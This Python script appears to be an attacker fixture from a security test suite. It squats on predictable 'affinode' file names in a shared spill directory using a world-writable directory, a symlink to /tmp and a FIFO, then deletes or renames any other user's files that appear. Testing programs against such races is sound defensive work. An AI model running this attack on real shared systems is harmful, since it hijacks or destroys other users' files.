"""Names that another user's files might have in the shared folder, taken: `taking_spill_names.py FOLDER DIR UID`."""

from __future__ import annotations

import os
import sys
from pathlib import Path

from attacking import goes_on, under_way

SPILL_DIR, UID = Path(sys.argv[2]), sys.argv[3]


def main() -> None:
    """Take them, and any name that appears, until the end."""
    taken = [SPILL_DIR / f"affinode-{UID}", SPILL_DIR / f"affinode-{UID}.0", SPILL_DIR / UID]
    taken[0].mkdir()
    taken[0].chmod(0o777)
    taken[1].symlink_to("/tmp")
    os.mkfifo(taken[2])
    under_way()
    seen: set[str] = set()
    while goes_on(0.01):
        for name in set(os.listdir(SPILL_DIR)) - {path.name for path in taken} - seen:
            seen.add(name)
            for change in (os.unlink, os.rmdir, lambda path: os.rename(path, SPILL_DIR / "mine")):
                try:
                    change(SPILL_DIR / name)
                except OSError:
                    continue
                break
    taken[0].rmdir()
    taken[1].unlink()
    taken[2].unlink()


if __name__ == "__main__":
    main()
